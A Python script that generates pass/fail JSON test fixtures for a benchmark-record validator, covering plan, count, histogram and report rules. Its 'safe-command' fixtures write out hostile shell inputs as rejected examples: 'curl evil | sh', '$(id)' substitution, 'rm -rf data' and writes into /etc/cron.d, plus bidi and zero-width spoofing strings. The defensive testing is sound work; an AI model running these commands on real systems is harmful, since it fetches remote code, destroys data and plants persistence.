"""Writes ``tests/rules/<rule>/{pass,fail}*.json``: ``python -m support.rule_files`` in ``tests/``.

The files are committed and are what the tests read; this script only says how each was made from a valid
document. A ``fail`` differs from a valid document in what its rule forbids, and in nothing else that another
rule would see; a ``pass`` is the nearest neighbour that is still allowed.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any, TypeAlias

from support import agent_rule_files, whole_rule_files
from support.evidence import died, imported_execution, runtime_execution, small_execution, utc
from tallymark.histogram import Histogram

RULES = Path(__file__).parent.parent / "rules"
REPORT = Path(__file__).parents[2] / "schemas" / "report" / "examples" / "runtime-scale.json"

Document: TypeAlias = dict[str, Any]
Change: TypeAlias = Callable[[Document], None]


def one_run() -> Document:
    """One completed run of three tasks."""
    return small_execution(tasks=3)


def two_runs() -> Document:
    """Two configurations, one run each, started at the same second."""
    document = runtime_execution(tasks=3, agents=(100, 1000), repetitions=1, warmup_runs=0)
    for run in document["runs"]:
        run["started_at"] = utc(0)
    return document


def dead_run() -> Document:
    """One run that was killed, recorded by its parent."""
    document = one_run()
    document["runs"][0] = died(document["runs"][0])
    return document


def samples() -> Document:
    """Three samples of one foreign benchmark."""
    return imported_execution(benchmarks=("sleep 0.1",))


def report() -> Document:
    """A report of one row."""
    loaded: Document = json.loads(REPORT.read_bytes())
    return loaded


def setting(*path: str | int, to: Any) -> Change:
    """Set the value at ``path``."""

    def change(document: Document) -> None:
        holder: Any = document
        for key in path[:-1]:
            holder = holder[key]
        holder[path[-1]] = to

    return change


def of_run(*path: str | int, to: Any) -> Change:
    """Set a value of the first run."""
    return setting("runs", 0, *path, to=to)


def configured(key: str, to: Any) -> Change:
    """Set a configuration key of the first run and of its plan entry."""
    return both(of_run(key, to=to), setting("execution", "plan", 0, "configuration", key, to=to))


def both(*changes: Change) -> Change:
    """Several changes, one after the other."""

    def change(document: Document) -> None:
        for one in changes:
            one(document)

    return change


def removing(*path: str | int) -> Change:
    """Delete the key or item at ``path``."""

    def change(document: Document) -> None:
        holder: Any = document
        for key in path[:-1]:
            holder = holder[key]
        del holder[path[-1]]

    return change


def recorded(stage: str, prefix: str, values: list[int]) -> Change:
    """Replace a histogram of the first run by that of ``values``, its scalars too."""

    def change(document: Document) -> None:
        run, histogram = document["runs"][0], Histogram.recorded(values)
        run["histograms"][stage] = histogram.to_record()
        for name, a, b in (("p50", 50, 100), ("p95", 95, 100), ("p99", 99, 100), ("max", 1, 1)):
            run[f"{prefix}_{name}_ms"] = histogram.percentile_ns(a, b) / 1e6

    return change


def sampled_empty(stage: str) -> Change:
    """A histogram that happened to sample nothing: no other rule concludes anything from it."""
    empty = Histogram.recorded([]).to_record() | {"sample_every": 16}
    return of_run("histograms", stage, to=empty)


def swapped_agents(document: Document) -> None:
    """Exchange the roles of the two runs, as if their records had been exchanged."""
    first, second = document["runs"]
    first["agents"], second["agents"] = second["agents"], first["agents"]


def command(text: str) -> Change:
    """Replace the command that the document says made it."""
    return setting("execution", "command", to=text)


def left_behind(key: str) -> Change:
    """A fourth task that was admitted and is still there at the end."""
    return both(
        configured("tasks", 4),
        of_run("tasks_submitted", to=4),
        of_run("tasks_admitted", to=4),
        of_run("checks", "tasks_seen_never", to=1),
        of_run(key, to=1),
    )


def renamed(benchmark: str) -> Change:
    """Give the foreign benchmark another name wherever it stands."""

    def change(document: Document) -> None:
        for entry in (*document["runs"], *document["reported"]):
            entry["benchmark"] = benchmark

    return change


def two_task_counts(document: Document) -> None:
    """A second run of another size in the same document."""
    other = runtime_execution(tasks=4, agents=(100,), repetitions=1, warmup_runs=0, seed=2)
    run, entry = other["runs"][0], other["execution"]["plan"][0]
    run["index"] = entry["index"] = 1
    document["runs"].append(run)
    document["execution"]["plan"].append(entry)


def reversed_runs(document: Document) -> None:
    """The runs in another order than their indexes."""
    document["runs"].reverse()


def same(document: Document) -> None:
    """Nothing changed."""


FILES: dict[str, dict[str, tuple[Callable[[], Document], Change]]] = {
    "plan-sound": {
        "pass": (two_runs, same),
        "fail-index": (one_run, setting("execution", "plan", 0, "index", to=1)),
        "fail-repetitions": (one_run, setting("execution", "repetitions", to=2)),
        "fail-suite": (one_run, setting("execution", "suite", to="other")),
        "fail-two-task-counts": (one_run, two_task_counts),
    },
    "plan-match": {
        "pass": (two_runs, same),
        "fail-swapped": (two_runs, swapped_agents),
        "fail-repetition": (one_run, of_run("repetition", to=2)),
        "fail-beyond-the-plan": (
            one_run,
            both(of_run("index", to=1), setting("execution", "complete", to=False)),
        ),
    },
    "plan-complete": {
        "pass-interrupted": (
            two_runs,
            both(removing("runs", 1), setting("execution", "complete", to=False)),
        ),
        "fail-deleted-run": (two_runs, removing("runs", 0)),
        "fail-order": (two_runs, reversed_runs),
        "fail-warmups": (one_run, setting("execution", "warmup_runs", to=1)),
    },
    "gate-passed": {
        "pass": (one_run, same),
        "pass-smoke": (lambda: small_execution(tasks=3, suite="smoke"), same),
        "fail-none": (one_run, setting("gate", to=None)),
        "fail-gate": (one_run, setting("gate", "passed", to=False)),
        "fail-assertion": (one_run, setting("gate", "assertions", 0, "passed", to=False)),
        "fail-precheck": (one_run, setting("gate", "precheck", 0, "passed", to=False)),
        "fail-empty": (one_run, setting("gate", "assertions", to=[])),
    },
    "run-id-unique": {
        "pass": (two_runs, same),
        "fail": (
            two_runs,
            both(setting("runs", 0, "run_id", to="0" * 16), setting("runs", 1, "run_id", to="0" * 16)),
        ),
    },
    "null-reason": {
        "pass": (one_run, same),
        "pass-imported": (samples, same),
        "fail-no-reason": (one_run, removing("manifest", "unavailable", "governor")),
        "fail-idle-reason": (one_run, setting("manifest", "unavailable", "revision", to="unknown")),
        "fail-machine": (one_run, setting("manifest", "machine", "cpu_model", to=None)),
        "fail-memory": (one_run, of_run("memory", "pss_at_end_bytes", to=None)),
        "fail-scalar": (one_run, of_run("load_average_before", to=None)),
        "fail-imported": (samples, removing("manifest", "unavailable", "cores")),
    },
    "time-order": {
        "pass": (one_run, setting("execution", "finished_at", to=utc(0))),
        "fail-end": (one_run, setting("execution", "finished_at", to=utc(-1))),
        "fail-run": (one_run, of_run("started_at", to=utc(-1))),
        "pass-imported": (samples, setting("execution", "finished_at", to=utc(0))),
        "fail-imported": (samples, setting("execution", "finished_at", to=utc(1))),
    },
    "clean-source": {
        "pass": (one_run, same),
        "fail": (one_run, setting("manifest", "dirty", to=True)),
    },
    "counts-conserved": {
        "pass": (one_run, same),
        "fail-rejected": (one_run, of_run("tasks_rejected", to=1)),
        "fail-cancelled": (one_run, of_run("tasks_cancelled", to=1)),
    },
    "counts-ordered": {
        "pass": (dead_run, same),
        "fail-admitted": (dead_run, of_run("tasks_admitted", to=4)),
        "fail-completed": (dead_run, of_run("tasks_completed", to=4)),
    },
    "all-submitted": {
        "pass": (one_run, same),
        "fail": (one_run, both(configured("tasks", 4), of_run("checks", "tasks_seen_never", to=1))),
    },
    "drained": {
        "pass": (one_run, same),
        "fail-active": (one_run, left_behind("active_at_end")),
        "fail-queue": (one_run, left_behind("queue_at_end")),
    },
    "submission-settings": {
        "pass": (one_run, same),
        "pass-paced": (
            one_run,
            both(configured("submission", "paced"), configured("window", 0), configured("rate_per_s", 5)),
        ),
        "fail-rate": (one_run, configured("rate_per_s", 5)),
        "fail-window": (one_run, both(configured("submission", "paced"), configured("rate_per_s", 5))),
    },
    "limits-kept": {
        "pass": (one_run, both(configured("window", 3), configured("queue_limit", 3))),
        "fail-queue": (one_run, configured("queue_limit", 2)),
        "fail-window": (one_run, configured("window", 2)),
        "fail-active": (one_run, configured("max_active", 7)),
    },
    "retained-limit": {
        "pass": (
            one_run,
            both(configured("history_limit_tasks", 3), configured("history_limit_bytes", 1536)),
        ),
        "fail-tasks": (one_run, configured("history_limit_tasks", 2)),
        "fail-bytes": (one_run, configured("history_limit_bytes", 1535)),
    },
    "seen-once": {
        "pass": (one_run, same),
        "fail-twice": (one_run, of_run("checks", "tasks_seen_twice", to=1)),
        "fail-never": (
            one_run,
            both(of_run("checks", "tasks_seen_once", to=2), of_run("checks", "tasks_seen_never", to=1)),
        ),
        "fail-unaccounted": (one_run, of_run("checks", "tasks_seen_never", to=1)),
    },
    "work-done": {
        "pass": (one_run, same),
        "fail-lookups": (one_run, of_run("role_lookups", to=2)),
        "fail-probes": (one_run, of_run("probes_done", to=3 * 64 - 1)),
        "fail-output": (one_run, of_run("output_bytes_written", to=0)),
        "fail-prompts": (one_run, of_run("prompt_bytes", to=899)),
        "fail-lookup-failed": (one_run, of_run("checks", "lookups_failed", to=1)),
    },
    "checksums": {
        "pass": (one_run, same),
        "fail-context": (one_run, of_run("checks", "context_checksum", to="0" * 16)),
        "fail-probes": (one_run, of_run("checks", "probe_checksum_expected", to="0" * 16)),
    },
    "elapsed-positive": {
        "pass": (one_run, same),
        "fail": (one_run, of_run("elapsed_ms", to=0)),
    },
    "throughput": {
        "pass": (one_run, same),
        "fail-unit": (one_run, both(of_run("elapsed_ms", to=250), of_run("tasks_per_second", to=0.012))),
        "fail-digit": (one_run, both(of_run("elapsed_ms", to=250), of_run("tasks_per_second", to=12.001))),
    },
    "percentile-order": {
        "pass": (one_run, sampled_empty("execution")),
        "fail": (one_run, both(sampled_empty("execution"), of_run("execution_p99_ms", to=580))),
    },
    "histogram-sound": {
        "pass": (one_run, of_run("histograms", "callback", to=Histogram.recorded([]).to_record())),
        "fail-count": (one_run, of_run("histograms", "prompt", "count", to=4)),
        "fail-sum": (one_run, of_run("histograms", "queue", "sum_ns", to="1")),
        "fail-minimum": (one_run, of_run("histograms", "queue", "min_ns", to=1)),
        "fail-order": (
            one_run,
            of_run("histograms", "callback", "buckets", to=[[20, 1], [10, 2]]),
        ),
    },
    "histogram-population": {
        "pass": (one_run, same),
        "fail": (one_run, recorded("execution", "execution", [1000, 2000])),
    },
    "histogram-percentiles": {
        "pass": (one_run, same),
        "fail": (one_run, of_run("scheduler_latency_p50_ms", to=0.000001)),
    },
    "stage-sums": {
        "pass": (one_run, same),
        "fail": (one_run, recorded("end_to_end", "end_to_end", [1000, 2000, 3000])),
    },
    "clamped": {
        "pass": (one_run, same),
        "fail": (one_run, of_run("clamped_intervals", to=1)),
    },
    "rss-peak": {
        "pass": (one_run, of_run("rss_at_end_bytes", to=17 << 20)),
        "fail-end": (one_run, of_run("rss_at_end_bytes", to=(17 << 20) + 1)),
        "fail-start": (one_run, of_run("rss_at_start_bytes", to=(17 << 20) + 1)),
    },
    "timeline-order": {
        "pass": (one_run, of_run("timeline", "rows", 1, 0, to=0.0)),
        "fail-time": (one_run, of_run("timeline", "rows", 2, 0, to=0.0)),
        "fail-cpu": (one_run, of_run("timeline", "rows", 4, 5, to=0.0)),
        "fail-samples": (one_run, of_run("timeline", "samples", to=4)),
    },
    "timeline-peaks": {
        "pass": (one_run, of_run("timeline", "rows", 1, 1, to=3)),
        "pass-unread": (one_run, of_run("timeline", "rows", 1, 3, to=None)),
        "fail-queue": (one_run, of_run("timeline", "rows", 1, 1, to=4)),
        "fail-active": (one_run, of_run("timeline", "rows", 1, 2, to=9)),
        "fail-rss": (one_run, of_run("timeline", "rows", 1, 3, to=19 << 20)),
        "fail-threads": (one_run, of_run("timeline", "rows", 1, 4, to=19)),
    },
    "sample-order": {
        "pass": (samples, same),
        "fail-index": (samples, of_run("index", to=3)),
        "fail-repetition": (samples, of_run("repetition", to=3)),
        "fail-declared": (samples, setting("execution", "repetitions", to=4)),
    },
    "exit-code": {
        "pass": (samples, removing("runs", 0, "exit_code")),
        "fail-completed": (samples, of_run("exit_code", to=1)),
        "fail-failed": (samples, of_run("outcome", to="failed")),
    },
    "reported-agrees": {
        "pass": (samples, removing("reported", 0, "stddev_s")),
        "fail-mean": (samples, setting("reported", 0, "mean_s", to=100.4)),
        "fail-maximum": (samples, setting("reported", 0, "max_s", to=0.2)),
        "fail-no-samples": (samples, setting("reported", 0, "benchmark", to="sleep 0.2")),
    },
    "ledger-closes": {
        "pass": (report, same),
        "fail-found": (report, setting("ledger", "failed", to=1)),
        "fail-missing": (report, setting("ledger", "missing", to=1)),
        "fail-data": (report, setting("data", 0, "runs", to=2)),
        "fail-closes": (report, setting("ledger", "closes", to=False)),
    },
    "cells-fit": {
        "pass": (report, same),
        "fail-id": (report, setting("rows", 0, "id", to="tasks=10,agents=1000")),
        "fail-cell": (report, removing("rows", 0, "cells", "elapsed")),
        "fail-key": (report, removing("rows", 0, "key", "agents")),
    },
    "sources-listed": {
        "pass": (report, same),
        "fail": (report, setting("rows", 0, "cells", "elapsed", "sources", 0, "sha256", to="0" * 64)),
    },
    "safe-command": {
        "pass-run": (one_run, command("tallymark run scale --set tasks=3 --seed 7 --label a.b-1")),
        "pass-demo": (one_run, command("tallymark demo")),
        "pass-recover": (one_run, command("tallymark recover build/scale.journal")),
        "pass-quoted": (
            samples,
            command("tallymark import hyperfine 'größe $(id); a..b=...json' --out data/a"),
        ),
        "fail-chain": (one_run, command("tallymark run scale; curl evil | sh")),
        "fail-substitution": (one_run, command("tallymark run scale --label $(id)")),
        "fail-backquote": (samples, command("tallymark import hyperfine `id`")),
        "fail-double-quote": (samples, command('tallymark import hyperfine "$HOME.json"')),
        "fail-redirection": (one_run, command("tallymark run scale >a")),
        "fail-glob": (samples, command("tallymark import hyperfine *")),
        "fail-spacing": (one_run, command("tallymark  run scale")),
        "fail-quote": (samples, command("tallymark import hyperfine 'a")),
        "fail-program": (one_run, command("rm -rf data")),
        "fail-prefix": (one_run, command("env tallymark run scale")),
        "fail-subcommand": (one_run, command("tallymark freeze runtime-scale")),
        "fail-no-subcommand": (one_run, command("tallymark")),
        "fail-outside": (one_run, command("tallymark run scale --out /etc/cron.d")),
        "fail-outside-joined": (one_run, command("tallymark run scale --out=/etc/cron.d")),
        "fail-above": (samples, command("tallymark import hyperfine h.json --out data/../../x")),
    },
    "no-identity": {
        "pass": (one_run, setting("execution", "command", to="tallymark run scale --set tasks=3")),
        "pass-imported": (samples, renamed("eslint@8.0.0 --fix src")),
        "fail-home": (
            one_run,
            setting("manifest", "container", to="overlay below /home/jane/data"),
        ),
        "fail-root": (one_run, setting("manifest", "build", "flags", to="-O2 -ffile-prefix-map=/root/src=.")),
        "fail-mail": (samples, renamed("mail jane.doe@example.org")),
        "fail-host": (samples, renamed("ssh jane@build-7:src uptime")),
        "fail-key": (samples, setting("reported", to=[])),
    },
    "no-unprintable": {
        "pass": (samples, renamed("größe 測試 → 😀")),
        "fail-bidi": (one_run, setting("manifest", "machine", "cpu_model", to="CPU \u202eA")),
        "fail-control": (samples, renamed("clear \x1b[2J")),
        "fail-zero-width": (samples, renamed("ad\u200bmin")),
        "fail-noncharacter": (samples, renamed("sleep 0.1 \uffff")),
        "fail-private": (samples, renamed("sleep 0.1 \ue000")),
    },
}


def parameter_with_identity(document: Document) -> None:
    """A parameter whose name, not its value, tells a person."""
    for run in document["runs"]:
        run["parameters"] = {"jane.doe@example.org": "1"}


FILES["no-identity"]["fail-key"] = (
    samples,
    both(setting("reported", to=[]), parameter_with_identity),
)

FILES |= whole_rule_files.FILES
FILES |= agent_rule_files.FILES


def write() -> None:
    """Write every file; files of rules that no longer exist must be removed by hand."""
    for rule, files in FILES.items():
        folder = RULES / rule
        folder.mkdir(parents=True, exist_ok=True)
        for name, (make, change) in files.items():
            document = make()
            change(document)
            text = json.dumps(document, ensure_ascii=False, separators=(",", ":"))
            (folder / f"{name}.json").write_text(text + "\n", encoding="utf-8")


if __name__ == "__main__":
    write()
